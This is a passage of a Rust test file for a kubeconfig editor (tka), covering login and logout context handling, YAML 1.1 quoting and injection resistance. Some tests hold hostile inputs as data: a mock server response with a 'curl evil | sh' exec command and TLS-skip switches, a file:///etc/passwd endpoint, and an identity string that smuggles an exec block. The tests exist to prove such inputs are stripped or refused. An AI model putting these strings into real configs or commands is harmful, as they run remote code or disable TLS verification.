//! Behaviour of the kubeconfig rendering and editing as a user sees it (foreign entries kept as
//! written, a server unable to smuggle exec or TLS switches in, logout restoring the context),
//! with property tests over generated inputs. Tests only, on strings: nothing here reads or
//! writes a file.

use std::path::{Path, PathBuf};

use proptest::prelude::*;

use super::*;

fn server() -> ServerUrl {
    ServerUrl::parse("http://tka-prod").unwrap()
}

fn endpoint(cluster: &str) -> ClusterEndpoint {
    ClusterEndpoint {
        name: ClusterName::new(cluster).unwrap(),
        server: format!("https://{cluster}.api.example:6443"),
        certificate_authority_data: Some("LS0tLS1CRUdJTg==".to_owned()),
        proxy: None,
        direct_tokens: true,
    }
}

fn entries_with(
    cluster: &str,
    template: &ContextTemplate,
    credential: UserCredential,
) -> LoginEntries {
    let server = server();
    LoginEntries::new(
        &endpoint(cluster),
        EntryOptions {
            template,
            server: &server,
            identity: Some("laptop.tail1234.ts.net"),
            socks5: None,
            namespace: None,
            credential,
        },
    )
    .unwrap()
}

fn exec() -> UserCredential {
    UserCredential::Exec {
        command: "/usr/local/bin/tka".to_owned(),
    }
}

fn entries(cluster: &str) -> LoginEntries {
    entries_with(cluster, &ContextTemplate::default(), exec())
}

const FOREIGN: &str = r#"
apiVersion: v1
kind: Config
clusters:
- name: kind-dev
  cluster:
    server: https://127.0.0.1:41234
    certificate-authority-data: QUJD
    x-unknown: {keep: [1, 2, "yes"]}
users:
- name: kind-dev
  user:
    client-certificate-data: REVG
    client-key-data: R0hJ
contexts:
- name: kind-dev
  context: {cluster: kind-dev, user: kind-dev, namespace: default}
current-context: kind-dev
preferences: {colors: true}
extensions:
- name: example.com/thing
  extension: {a: "0123", b: null, c: 1.5}
x-top-level: ["on", "off", "~"] # a comment
# tka keeps comments
"#;

#[test]
fn destination_follows_client_go() {
    let home = Path::new("/home/alice");
    let exists =
        |set: &'static [&'static str]| move |p: &Path| set.iter().any(|s| Path::new(s) == p);
    // No KUBECONFIG, or an empty one: ~/.kube/config.
    for env in [None, Some(""), Some(":")] {
        assert_eq!(
            destination(env.map(OsStr::new), Some(home), exists(&[])),
            Some(PathBuf::from("/home/alice/.kube/config"))
        );
    }
    // The first listed file that exists...
    assert_eq!(
        destination(
            Some(OsStr::new("/a:/b:/c")),
            Some(home),
            exists(&["/b", "/c"])
        ),
        Some(PathBuf::from("/b"))
    );
    // ...else the last one listed.
    assert_eq!(
        destination(Some(OsStr::new("/a:/b:/c")), Some(home), exists(&[])),
        Some(PathBuf::from("/c"))
    );
    // A single file is used whether it exists or not.
    assert_eq!(
        destination(Some(OsStr::new("/only")), Some(home), exists(&[])),
        Some(PathBuf::from("/only"))
    );
    // No KUBECONFIG and no home: nothing to write to.
    assert_eq!(destination(None, None, exists(&[])), None);
}

#[test]
fn renders_exec_entries_into_an_empty_kubeconfig() {
    let mut config = Kubeconfig::default();
    let change = config.login(&entries("prod"), true).unwrap();
    assert_eq!(change.context, "tka-prod");
    assert!(change.switched && !change.replaced);
    assert_eq!(change.previous_context, None);
    insta::assert_snapshot!(config.render().unwrap());
}

#[test]
fn a_static_credential_keeps_its_token_out_of_debug_and_panics() {
    let static_with = |token: &str| UserCredential::Static {
        token: Secret::new(token.to_owned()),
    };
    let (a, b) = (
        static_with("eyJhbGciOi.eyJzdWIi.sig-a"),
        static_with("eyJhbGciOi.eyJzdWIi.sig-b"),
    );
    let debug = format!("{a:?} {a:#?}");
    assert!(
        !debug.contains("eyJ") && debug.contains("[redacted]"),
        "{debug}"
    );
    // A failed assertion prints both sides with `Debug`: no token there either.
    let panic = std::panic::catch_unwind(|| assert_eq!(a, b)).unwrap_err();
    let message = panic.downcast_ref::<String>().unwrap();
    assert!(message.contains("left == right"), "{message}");
    assert!(
        !message.contains("eyJ") && !message.contains("sig-"),
        "{message}"
    );
}

#[test]
fn static_login_embeds_the_token_and_no_exec() {
    let mut config = Kubeconfig::default();
    let static_entries = entries_with(
        "prod",
        &ContextTemplate::default(),
        UserCredential::Static {
            token: Secret::new("eyJhbGciOiJSUzI1NiJ9.e30.sig".to_owned()),
        },
    );
    config.login(&static_entries, true).unwrap();
    let text = config.render().unwrap();
    assert!(text.contains("token: eyJhbGciOiJSUzI1NiJ9.e30.sig"));
    assert!(!text.contains("exec:"));
    // The exec form, for contrast, has no token.
    let mut exec_config = Kubeconfig::default();
    exec_config.login(&entries("prod"), true).unwrap();
    let exec_text = exec_config.render().unwrap();
    assert!(exec_text.contains("exec:") && !exec_text.contains("token:"));
}

#[test]
fn a_server_cannot_smuggle_exec_or_tls_switches_into_the_kubeconfig() {
    // A login response with extra fields a hostile or buggy server might send.
    let hostile = serde_json::json!({
        "cluster": {
            "name": "prod",
            "server": "https://prod.api.example:6443",
            "certificateAuthorityData": "QUJD",
            "insecure-skip-tls-verify": true,
            "insecureSkipTlsVerify": true,
            "exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]},
        },
        "session": {
            "name": "tka-alice-x1",
            "role": "sre",
            "expiresAt": "2026-01-01T01:00:00Z",
            "device": "laptop",
            "caller": "alice@example.com",
        },
        "token": {"token": "t", "expiresAt": "2026-01-01T00:15:00Z"},
        "ttl": "1h",
        "kubeconfig": "apiVersion: v1\nusers: [{name: x, user: {exec: {command: /bin/sh}}}]",
        "exec": {"command": "/bin/sh"},
        "insecure-skip-tls-verify": true,
    });
    let response: crate::api::LoginResponse = serde_json::from_value(hostile).unwrap();
    let server = server();
    let built = LoginEntries::new(
        &response.cluster,
        EntryOptions {
            template: &ContextTemplate::default(),
            server: &server,
            identity: Some(&response.session.device),
            socks5: None,
            namespace: None,
            credential: exec(),
        },
    )
    .unwrap();
    let mut config = Kubeconfig::default();
    config.login(&built, true).unwrap();
    let text = config.render().unwrap();
    assert!(!text.contains("/bin/sh"), "{text}");
    assert!(!text.contains("curl"), "{text}");
    assert!(!text.contains("insecure"), "{text}");
    // What the server legitimately sent did arrive.
    assert!(text.contains("server: https://prod.api.example:6443"));
    assert!(text.contains("certificate-authority-data: QUJD"));
    assert!(text.contains("command: /usr/local/bin/tka"));
}

#[test]
fn unusable_endpoints_are_refused() {
    let server = server();
    let try_endpoint = |ep: ClusterEndpoint| {
        LoginEntries::new(
            &ep,
            EntryOptions {
                template: &ContextTemplate::default(),
                server: &server,
                identity: None,
                socks5: None,
                namespace: None,
                credential: exec(),
            },
        )
    };
    let mut bad_url = endpoint("prod");
    bad_url.server = "file:///etc/passwd".to_owned();
    assert!(matches!(
        try_endpoint(bad_url),
        Err(KubeconfigError::Endpoint(_))
    ));
    let mut bad_ca = endpoint("prod");
    bad_ca.certificate_authority_data = Some("not base64!\nexec: x".to_owned());
    assert!(matches!(
        try_endpoint(bad_ca),
        Err(KubeconfigError::Endpoint(_))
    ));
    assert!(try_endpoint(endpoint("prod")).is_ok());
}

#[test]
fn the_tka_proxy_and_a_socks5_proxy_shape_the_cluster_entry() {
    let server = server();
    let socks5 = Socks5Addr::parse("localhost:1055").unwrap();
    let mut ep = endpoint("prod");
    ep.proxy = Some("http://tka-prod-proxy:8443".to_owned());
    let built = LoginEntries::new(
        &ep,
        EntryOptions {
            template: &ContextTemplate::default(),
            server: &server,
            identity: Some("laptop"),
            socks5: Some(&socks5),
            namespace: Some("team-a"),
            credential: UserCredential::Proxied,
        },
    )
    .unwrap();
    assert_eq!(built.marker().via, Via::Proxy);
    assert_eq!(
        built.exec_args(),
        [
            "credential",
            "prod",
            "--server",
            "http://tka-prod",
            "--identity",
            "laptop",
            "--socks5",
            "localhost:1055"
        ]
    );
    let mut config = Kubeconfig::default();
    config.login(&built, true).unwrap();
    let text = config.render().unwrap();
    assert!(text.contains("server: http://tka-prod-proxy:8443"));
    assert!(text.contains("proxy-url: socks5://localhost:1055"));
    assert!(text.contains("namespace: team-a"));
    // The cluster's CA is for the API server, not for the proxy.
    assert!(!text.contains("certificate-authority-data"));
    // No credential at all: neither a token nor an exec entry, and the marker says why.
    let view: serde_json::Value = serde_yaml::from_str(&text).unwrap();
    let user = view["users"][0]["user"].as_object().unwrap();
    assert_eq!(user.keys().collect::<Vec<_>>(), ["extensions"], "{text}");
    assert!(!text.contains("token") && !text.contains("exec"), "{text}");
    assert_eq!(config.tka_contexts()[0].marker.via, Via::Proxy);
    assert!(text.contains("via: proxy"));
}

#[test]
fn a_direct_login_ignores_the_proxy_and_a_proxied_one_needs_it() {
    let server = server();
    let mut ep = endpoint("prod");
    ep.proxy = Some("http://tka-prod-proxy:8443".to_owned());
    let template = ContextTemplate::default();
    let options = |credential| EntryOptions {
        template: &template,
        server: &server,
        identity: None,
        socks5: None,
        namespace: None,
        credential,
    };
    // Direct (exec or static): the API server and its CA, even when a proxy is offered.
    let direct = LoginEntries::new(&ep, options(exec())).unwrap();
    assert_eq!(
        direct.api_server().as_str(),
        "https://prod.api.example:6443"
    );
    assert_eq!(direct.marker().via, Via::Direct);
    let text = Kubeconfig::only(&direct).render().unwrap();
    assert!(text.contains("certificate-authority-data: LS0tLS1CRUdJTg=="));
    assert!(text.contains("exec:"));
    assert!(!text.contains("via:"));
    let mut config = Kubeconfig::parse(&text).unwrap();
    assert_eq!(config.tka_contexts()[0].marker.via, Via::Direct);
    // Proxied: the proxy, nothing else; and a proxied login to a server without a proxy is an
    // error, never a context with no credential pointing at the API server.
    let proxied = LoginEntries::new(&ep, options(UserCredential::Proxied)).unwrap();
    assert_eq!(proxied.api_server().as_str(), "http://tka-prod-proxy:8443");
    config.login(&proxied, true).unwrap();
    assert_eq!(config.tka_contexts().len(), 1);
    assert_eq!(config.tka_contexts()[0].marker.via, Via::Proxy);
    assert!(matches!(
        LoginEntries::new(&endpoint("prod"), options(UserCredential::Proxied)),
        Err(KubeconfigError::Endpoint(_))
    ));
}

#[test]
fn foreign_entries_with_tka_names_are_never_overwritten() {
    for kind in ["clusters", "users", "contexts"] {
        let body = &kind[..kind.len() - 1];
        let text = format!("{kind}:\n- name: tka-prod\n  {body}: {{mine: true}}\n");
        let mut config = Kubeconfig::parse(&text).unwrap();
        let before = config.clone();
        let err = config.login(&entries("prod"), true).unwrap_err();
        assert_eq!(
            err,
            KubeconfigError::ForeignEntry {
                kind: body,
                name: "tka-prod".to_owned()
            }
        );
        assert_eq!(config, before);
        // With another context name, the login goes through and the foreign entry stays.
        let other = ContextTemplate::parse("{cluster}-via-tka").unwrap();
        config
            .login(&entries_with("prod", &other, exec()), true)
            .unwrap();
        assert_eq!(config.tka_contexts().len(), 1);
        assert!(config.render().unwrap().contains("mine: true"));
    }
}

#[test]
fn logout_restores_the_previous_context_and_keeps_foreign_entries() {
    let original = Kubeconfig::parse(FOREIGN).unwrap();
    let mut config = original.clone();
    let change = config.login(&entries("prod"), true).unwrap();
    assert_eq!(change.previous_context.as_deref(), Some("kind-dev"));
    assert_eq!(config.current_context(), Some("tka-prod"));
    assert_eq!(
        config.tka_contexts(),
        [TkaContext {
            name: "tka-prod".to_owned(),
            marker: LoginMarker {
                cluster: ClusterName::new("prod").unwrap(),
                server: server(),
                identity: Some("laptop.tail1234.ts.net".to_owned()),
                via: Via::Direct,
            },
            current: true,
        }]
    );
    let out = config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(out.restored, Some(Some("kind-dev".to_owned())));
    // Byte for byte, comments and quoting included.
    assert_eq!(config, original);
    assert_eq!(config.render().unwrap(), FOREIGN);
    // Nothing left to log out of; a foreign context is never removed.
    assert_eq!(config.logout("tka-prod"), Ok(None));
    assert_eq!(config.logout("kind-dev"), Ok(None));
    assert_eq!(config, original);
}

#[test]
fn a_previous_context_chain_that_loops_never_leaves_current_context_on_a_removed_context() {
    // tka-prod returns to tka-staging, which returns to tka-prod: a loop (hand-edited, or left
    // by an old version).
    let mut config = Kubeconfig::parse(FOREIGN).unwrap();
    config.login(&entries("staging"), true).unwrap();
    config.login(&entries("prod"), true).unwrap();
    let text = config
        .render()
        .unwrap()
        .replace("        context: kind-dev\n", "        context: tka-prod\n");
    assert!(text.contains("        context: tka-prod\n"), "{text}");
    let mut config = Kubeconfig::parse(&text).unwrap();
    assert_eq!(config.current_context(), Some("tka-prod"));

    // Allowed: the first logout returns to the recorded previous context.
    let out = config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(out.restored, Some(Some("tka-staging".to_owned())));
    assert_eq!(config.current_context(), Some("tka-staging"));
    // Refused: the loop now points tka-staging at itself; logging out of it unsets
    // current-context instead of naming the context just removed.
    let out = config.logout("tka-staging").unwrap().unwrap();
    assert_eq!(out.restored, Some(None));
    assert_eq!(config.current_context(), None);
    assert!(config.tka_contexts().is_empty());
}

#[test]
fn logout_leaves_a_current_context_the_user_chose_alone() {
    let mut config = Kubeconfig::parse(FOREIGN).unwrap();
    config.login(&entries("prod"), true).unwrap();
    config
        .set_value(&[], "current-context", "kind-dev")
        .unwrap();
    let out = config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(out.restored, None);
    assert_eq!(config.current_context(), Some("kind-dev"));
}

#[test]
fn no_switch_keeps_the_current_context() {
    let mut config = Kubeconfig::parse(FOREIGN).unwrap();
    let change = config.login(&entries("prod"), false).unwrap();
    assert!(!change.switched);
    assert_eq!(config.current_context(), Some("kind-dev"));
    // Switching is what happens without --no-switch.
    config.login(&entries("prod"), true).unwrap();
    assert_eq!(config.current_context(), Some("tka-prod"));
}

#[test]
fn chains_of_logins_unwind_to_the_original_context() {
    let original = Kubeconfig::parse(FOREIGN).unwrap();
    let mut config = original.clone();
    config.login(&entries("a"), true).unwrap();
    config.login(&entries("b"), true).unwrap();
    // Logging in to a again moves it to the top of the chain: a -> b -> kind-dev.
    let change = config.login(&entries("a"), true).unwrap();
    assert!(change.replaced);
    assert_eq!(change.previous_context.as_deref(), Some("tka-b"));
    let out = config.logout("tka-a").unwrap().unwrap();
    assert_eq!(out.restored, Some(Some("tka-b".to_owned())));
    let out = config.logout("tka-b").unwrap().unwrap();
    assert_eq!(out.restored, Some(Some("kind-dev".to_owned())));
    assert_eq!(config, original);
}

#[test]
fn malformed_kubeconfigs_are_refused_with_the_problem() {
    let err = Kubeconfig::parse("clusters:\n- name: a\n  cluster: {server: x\n").unwrap_err();
    assert!(
        matches!(&err, KubeconfigError::Yaml(m) if m.contains("line")),
        "{err}"
    );
    assert!(matches!(
        Kubeconfig::parse("- a\n- b\n"),
        Err(KubeconfigError::Shape(_))
    ));
    assert!(matches!(
        Kubeconfig::parse("clusters: {a: b}\n"),
        Err(KubeconfigError::Shape(m)) if m.contains("clusters")
    ));
    assert!(matches!(
        Kubeconfig::parse("current-context: [a]\n"),
        Err(KubeconfigError::Shape(_))
    ));
    // Empty and comment-only files are empty kubeconfigs.
    assert!(Kubeconfig::parse("").is_ok());
    assert!(Kubeconfig::parse("# nothing yet\n").is_ok());
}

#[test]
fn only_holds_just_the_tka_entries() {
    let config = Kubeconfig::only(&entries("prod"));
    assert_eq!(config.current_context(), Some("tka-prod"));
    for key in ["clusters", "users", "contexts"] {
        assert_eq!(config.items(key).len(), 1);
    }
}

#[test]
fn templates() {
    let prod = ClusterName::new("prod").unwrap();
    assert_eq!(
        ContextTemplate::parse("prod").unwrap().render(&prod),
        "prod"
    );
    for bad in ["", "{cluster", "{role}-x", "a b", "tka-{cluster}}"] {
        assert!(ContextTemplate::parse(bad).is_err(), "{bad:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// YAML 1.1: what kubectl reads must not change.

/// The entries of the issue: quoted strings that YAML 1.1 would read as booleans, and a plain
/// octal number in an extension.
const YAML11: &str = r#"apiVersion: v1
kind: Config
clusters:
- name: "no"
  cluster:
    server: https://no.example:6443
    extensions:
    - name: example.com/perm
      extension: {mode: 0755, big: 123456789012345678901234567890, hex: 0x1F, under: 1_000, bin: 0b1, exp: 1e3, date: 2001-12-14, sexa: 1:20, nothing: ~, flag: on}
users:
- name: "on"
  user:
    token: "yes"
contexts:
- name: "no"
  context:
    cluster: "no"
    user: "on"
    namespace: "y"
current-context: "no"
"#;

#[test]
fn yaml_1_1_scalars_are_kept_as_written() {
    let mut config = Kubeconfig::parse(YAML11).unwrap();
    assert_eq!(config.current_context(), Some("no"));
    config.login(&entries("prod"), true).unwrap();
    let text = config.render().unwrap();
    // Every foreign line is still there, quotes and plain numbers as they were.
    for line in YAML11.lines().filter(|l| !l.starts_with("current-context")) {
        assert!(text.contains(line), "lost {line:?} in\n{text}");
    }
    // The previous current-context is recorded quoted: YAML 1.1 would read a plain no as false.
    assert!(
        text.contains(r#"extension: {context: "no"}"#) || text.contains(r#"context: "no""#),
        "{text}"
    );
    config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(config.render().unwrap(), YAML11);
}

#[test]
fn names_that_yaml_1_1_misreads_are_written_quoted() {
    for word in ["on", "no", "y", "Off", "null", "true"] {
        let template = ContextTemplate::parse(word).unwrap();
        let mut config = Kubeconfig::default();
        config
            .login(&entries_with("prod", &template, exec()), true)
            .unwrap();
        let text = config.render().unwrap();
        assert!(text.contains(&format!("name: \"{word}\"")), "{text}");
        assert!(
            text.contains(&format!("current-context: \"{word}\"")),
            "{text}"
        );
        assert_eq!(config.current_context(), Some(word));
        assert_eq!(config.tka_contexts().len(), 1);
        config.logout(word).unwrap().unwrap();
        assert!(config.tka_contexts().is_empty());
    }
    // An unremarkable name stays plain.
    let mut config = Kubeconfig::default();
    config.login(&entries("prod"), true).unwrap();
    assert!(
        config
            .render()
            .unwrap()
            .contains("current-context: tka-prod\n")
    );
}

#[test]
fn what_kubectl_reads_as_a_non_string_name_is_refused_with_the_reason() {
    for (text, reads_as) in [
        ("current-context: no\n", "a boolean"),
        ("current-context: 0755\n", "an integer"),
        ("contexts:\n- name: on\n  context: {}\n", "a boolean"),
        (
            "clusters:\n- name: 1e3\n  cluster: {}\n",
            "a floating-point number",
        ),
        ("current-context: !!int \"5\"\n", "an integer"),
        ("current-context: !!bool \"x\"\n", "a boolean"),
    ] {
        let err = Kubeconfig::parse(text).unwrap_err();
        assert!(
            matches!(&err, KubeconfigError::NotText { reads_as: r, .. } if *r == reads_as),
            "{text}: {err}"
        );
        assert!(
            err.to_string()
                .contains("kubectl cannot read this file either"),
            "{err}"
        );
    }
    // The same values in quotes, and those that YAML 1.1 reads as strings, are fine.
    for text in [
        "current-context: \"no\"\n",
        "current-context: '0755'\n",
        "contexts:\n- name: \"on\"\n  context: {}\n",
        "current-context: 2001-12-14\n",
        "current-context: 1:20\n",
        "current-context: ~\n",
        "current-context:\n",
        // Local tags and !!str keep the text for kubectl.
        "current-context: !!str 0755\n",
        "current-context: !foo x\n",
        "current-context: ! 0755\n",
    ] {
        assert!(Kubeconfig::parse(text).is_ok(), "{text}");
    }
}

#[test]
fn what_kubectl_accepts_is_accepted() {
    // A number wider than 64 bits, and duplicate keys (kubectl takes the last).
    let text = "apiVersion: v1\nextensions:\n- name: x\n  extension: {big: 123456789012345678901234567890}\ncurrent-context: a\ncurrent-context: kind-dev\n";
    let mut config = Kubeconfig::parse(text).unwrap();
    assert_eq!(config.current_context(), Some("kind-dev"));
    let change = config.login(&entries("prod"), true).unwrap();
    assert_eq!(change.previous_context.as_deref(), Some("kind-dev"));
    let written = config.render().unwrap();
    // The last current-context is the one changed; the first stays as it was.
    assert!(
        written.contains("current-context: a\ncurrent-context: tka-prod"),
        "{written}"
    );
    assert!(written.contains("big: 123456789012345678901234567890"));
    config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(
        config
            .render()
            .unwrap()
            .replace("clusters: []\nusers: []\ncontexts: []\n", ""),
        text
    );
}

#[test]
fn flow_style_and_json_kubeconfigs_stay_valid() {
    let json = r#"{"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "kind", "cluster": {"server": "https://k:6443"}}], "users": [], "contexts": [], "current-context": "kind"}"#;
    let original = Kubeconfig::parse(json).unwrap();
    let mut config = original.clone();
    config.login(&entries("prod"), true).unwrap();
    let reread = Kubeconfig::parse(&config.render().unwrap()).unwrap();
    assert_eq!(reread.current_context(), Some("tka-prod"));
    assert_eq!(reread.tka_contexts().len(), 1);
    config.login(&entries("b"), true).unwrap();
    config.logout("tka-prod").unwrap().unwrap();
    config.logout("tka-b").unwrap().unwrap();
    assert_eq!(config.current_context(), Some("kind"));
    assert_eq!(foreign_texts(&config), foreign_texts(&original));
}

#[test]
fn empty_and_comment_only_files_get_a_full_kubeconfig() {
    for text in ["", "# nothing yet\n", "---\n", "~\n"] {
        let mut config = Kubeconfig::parse(text).unwrap();
        config.login(&entries("prod"), true).unwrap();
        let written = config.render().unwrap();
        assert!(
            written.contains("apiVersion: v1\nkind: Config\n"),
            "{written}"
        );
        if text.starts_with('#') {
            assert!(written.starts_with(text));
        }
        assert_eq!(Kubeconfig::parse(&written).unwrap().tka_contexts().len(), 1);
    }
}

#[test]
fn lists_that_are_missing_null_or_indented_take_entries() {
    for text in [
        "apiVersion: v1\n",
        "clusters:\nusers: ~\ncontexts: null\n",
        "clusters:\n  - name: kind # mine\n    cluster: {server: \"https://k\"}\n\n  # trailing comment\nusers: []\n",
        "clusters:\n- name: kind\n  cluster:\n    certificate-authority-data: |\n      QUJD\n\ncontexts: []\n",
    ] {
        let original = Kubeconfig::parse(text).unwrap();
        let mut config = original.clone();
        config.login(&entries("prod"), true).unwrap();
        config.login(&entries("b"), false).unwrap();
        let written = config.render().unwrap();
        let reread = Kubeconfig::parse(&written).unwrap();
        assert_eq!(reread.tka_contexts().len(), 2, "{written}");
        for (key, _, _) in LISTS {
            assert!(
                find(reread.items(key), "tka-prod").is_some(),
                "{key} in {written}"
            );
        }
        for line in text
            .lines()
            .filter(|l| l.contains('#') || l.contains("kind"))
        {
            assert!(written.contains(line), "lost {line:?} in\n{written}");
        }
        config.logout("tka-prod").unwrap().unwrap();
        config.logout("tka-b").unwrap().unwrap();
        assert!(config.tka_contexts().is_empty());
        assert_eq!(
            foreign_texts(&config),
            foreign_texts(&original),
            "{}",
            config.render().unwrap()
        );
    }
}

#[test]
fn anchors_and_aliases_in_foreign_entries_are_kept_and_tka_refuses_to_edit_through_them() {
    let text = "clusters:\n- name: kind\n  cluster: &c {server: \"https://k\"}\n- name: copy\n  cluster: *c\n";
    let mut config = Kubeconfig::parse(text).unwrap();
    config.login(&entries("prod"), true).unwrap();
    config.logout("tka-prod").unwrap().unwrap();
    assert_eq!(
        foreign_texts(&config),
        foreign_texts(&Kubeconfig::parse(text).unwrap())
    );
    // A list that is an alias cannot be changed without changing what it is an alias of.
    let aliased = "x-all: &all []\nclusters: *all\n";
    let mut config = Kubeconfig::parse(aliased).unwrap();
    let err = config.login(&entries("prod"), true).unwrap_err();
    assert!(matches!(err, KubeconfigError::Unsupported(_)), "{err}");
    assert_eq!(config.render().unwrap(), aliased);
}

#[test]
fn merge_keys_in_entries_are_refused() {
    let text = "x: &base {server: \"https://k\"}\nclusters:\n- name: kind\n  cluster:\n    <<: *base\n- <<: {name: tka-prod}\n";
    assert!(matches!(
        Kubeconfig::parse(text),
        Err(KubeconfigError::Unsupported(_))
    ));
    assert!(Kubeconfig::parse("x: &base {a: 1}\ny:\n  <<: *base\n").is_ok());
    // kubectl decodes !!binary; tka does not.
    assert!(matches!(
        Kubeconfig::parse("current-context: !!binary aGk=\n"),
        Err(KubeconfigError::Unsupported(_))
    ));
}

#[test]
fn nesting_past_the_limit_is_refused_as_unsupported_not_as_invalid() {
    let nested = |depth: usize| format!("x: {}{}\n", "[".repeat(depth), "]".repeat(depth));
    assert!(Kubeconfig::parse(&nested(100)).is_ok());
    let err = Kubeconfig::parse(&nested(300)).unwrap_err();
    assert!(matches!(err, KubeconfigError::Unsupported(_)), "{err}");
}

#[test]
fn kubectl_1_1_resolution() {
    use yaml::Resolved::*;
    for (plain, want) in [
        ("yes", Bool),
        ("Y", Bool),
        ("off", Bool),
        ("yEs", Str),
        ("~", Null),
        ("", Null),
        ("0755", Int),
        ("0o17", Int),
        ("0x1F", Int),
        ("-0x1f", Int),
        ("0b101", Int),
        ("1_000", Int),
        ("+12", Int),
        ("123456789012345678901234567890", Int),
        ("08", Float),
        ("1e3", Float),
        ("1.", Float),
        (".5", Float),
        (".inf", Float),
        ("1e400", Str),
        ("1:20", Str),
        ("2001-12-14", Str),
        ("2001-12-14T21:59:43.10Z", Str),
        ("0x", Str),
        ("-", Str),
        ("1.2.3", Str),
        ("tka-prod", Str),
        ("<<", Merge),
    ] {
        assert_eq!(yaml::resolve_plain(plain), want, "{plain:?}");
    }
}

#[test]
fn tka_strings_read_back_the_same_under_yaml_1_1() {
    for s in [
        "tka-prod",
        "https://x.example:6443",
        "/usr/local/bin/tka",
        "yes",
        "No",
        "0755",
        "1e3",
        "2001-12-14",
        "~",
        "",
        "a: b",
        "a #b",
        "- x",
        "tab\there",
        "quote\"back\\slash",
        "line\u{2028}sep\u{85}nel",
        "ünïcode",
        "key:",
        "[x]",
        "---",
        "--- x",
        "-",
        "-1",
        "-.inf",
    ] {
        let text = format!("k: {}\n", yaml::scalar(s));
        let root = yaml::parse(&text).unwrap().unwrap();
        assert_eq!(root.get("k").and_then(Node::as_str), Some(s), "{text}");
    }
    assert_eq!(yaml::scalar("tka-prod"), "tka-prod");
    assert_eq!(yaml::scalar("--server"), "--server");
    assert_eq!(yaml::scalar("on"), "\"on\"");
    assert_eq!(yaml::scalar("---"), "\"---\"");
    assert_eq!(yaml::scalar("-1"), "\"-1\"");
}

#[test]
fn crlf_and_byte_order_marks_are_kept() {
    for text in [
        "apiVersion: v1\r\nclusters:\r\n- name: kind\r\n  cluster: {server: \"https://k\"}\r\ncurrent-context: kind\r\n",
        "\u{feff}apiVersion: v1\nkind: Config\n",
    ] {
        let original = Kubeconfig::parse(text).unwrap();
        let mut config = original.clone();
        config.login(&entries("prod"), true).unwrap();
        let written = config.render().unwrap();
        let reread = Kubeconfig::parse(&written).unwrap();
        assert_eq!(reread.current_context(), Some("tka-prod"), "{written:?}");
        assert_eq!(reread.tka_contexts().len(), 1, "{written:?}");
        config.logout("tka-prod").unwrap().unwrap();
        assert_eq!(foreign_texts(&config), foreign_texts(&original));
        assert_eq!(config.current_context(), original.current_context());
    }
}

#[test]
fn a_hostile_identity_cannot_add_structure() {
    let server = server();
    let hostile = "laptop\"\n  exec: {command: /bin/sh}\n# x: [y, {z";
    let built = LoginEntries::new(
        &endpoint("prod"),
        EntryOptions {
            template: &ContextTemplate::default(),
            server: &server,
            identity: Some(hostile),
            socks5: None,
            namespace: None,
            credential: exec(),
        },
    )
    .unwrap();
    let mut config = Kubeconfig::default();
    config.login(&built, true).unwrap();
    let reread = Kubeconfig::parse(&config.render().unwrap()).unwrap();
    assert_eq!(
        reread.tka_contexts()[0].marker.identity.as_deref(),
        Some(hostile)
    );
    let users = reread.items("users");
    let user = users[0].get("user").unwrap();
    let exec = user.get("exec").unwrap();
    assert_eq!(
        exec.get("command").and_then(Node::as_str),
        Some("/usr/local/bin/tka")
    );
    // The well-behaved identity, for contrast, is written plain.
    let mut plain = Kubeconfig::default();
    plain.login(&entries("prod"), true).unwrap();
    assert!(
        plain
            .render()
            .unwrap()
            .contains("identity: laptop.tail1234.ts.net\n")
    );
}

/// The source text of every foreign entry and every top-level entry except tka's lists and
/// `current-context`, in order.
fn foreign_texts(config: &Kubeconfig) -> Vec<String> {
    let text = &config.text;
    let slice = |n: &Node| text[n.start..config.content_end(n)].to_owned();
    let mut out = Vec::new();
    let Some(root) = &config.root else {
        return out;
    };
    for (k, v) in root.entries().unwrap_or_default() {
        let key = k.as_str().unwrap_or_default();
        if key == "current-context" {
            continue;
        }
        if let Some((_, body, _)) = LISTS.iter().find(|(l, _, _)| *l == key) {
            for item in v.items().unwrap_or_default() {
                if marker_of(item, body).is_none() {
                    out.push(format!("{key}: {}", slice(item)));
                }
            }
            continue;
        }
        out.push(format!("{}: {}", slice(k), slice(v)));
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Property: logins and logouts never change a byte of a foreign entry, and logging out of
// everything restores the current-context. (Against the real kubectl: tka-cli's tests.)

#[derive(Debug, Clone)]
enum Op {
    Login {
        cluster: usize,
        switch: bool,
        alt_template: bool,
    },
    Logout {
        cluster: usize,
    },
    LogoutAll,
}

const CLUSTERS: [&str; 3] = ["a", "b", "prod"];

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        4 => (0..CLUSTERS.len(), any::<bool>(), any::<bool>()).prop_map(|(cluster, switch, alt_template)| Op::Login {
            cluster,
            switch,
            alt_template
        }),
        2 => (0..CLUSTERS.len()).prop_map(|cluster| Op::Logout { cluster }),
        1 => Just(Op::LogoutAll),
    ]
}

/// Scalars as written, YAML 1.1 traps included.
fn scalar_text() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "yes",
        "no",
        "on",
        "off",
        "y",
        "n",
        "~",
        "null",
        "0755",
        "1_0",
        "0x1f",
        "0b11",
        "1e3",
        "2001-12-14",
        "1:20",
        "-0x1F",
        "123456789012345678901234567890",
        "true",
        "\"no\"",
        "'on'",
        "\"0755\"",
        "'single ''quoted'''",
        "\"tab\\there\"",
        "plain text",
        "tka-a",
        "\"\"",
        "[1, yes, \"no\"]",
        "{mode: 0755, x: ~}",
        "[]",
        "{}",
    ])
    .prop_map(str::to_owned)
}

fn name_text() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "kind-dev",
        "corp",
        "\"no\"",
        "'on'",
        "\"0755\"",
        "tka-a",
        "b-via-tka",
        "\"tka-prod\"",
    ])
    .prop_map(str::to_owned)
}

/// One entry of a list, block (at `indent`) or flow.
fn entry_text(body: &'static str) -> impl Strategy<Value = (String, String)> {
    (
        name_text(),
        prop::collection::vec(("[a-z]{1,6}", scalar_text()), 0..4),
        any::<bool>(),
    )
        .prop_map(move |(name, fields, comment)| {
            let flow_fields: Vec<String> =
                fields.iter().map(|(k, v)| format!("{k}: {v}")).collect();
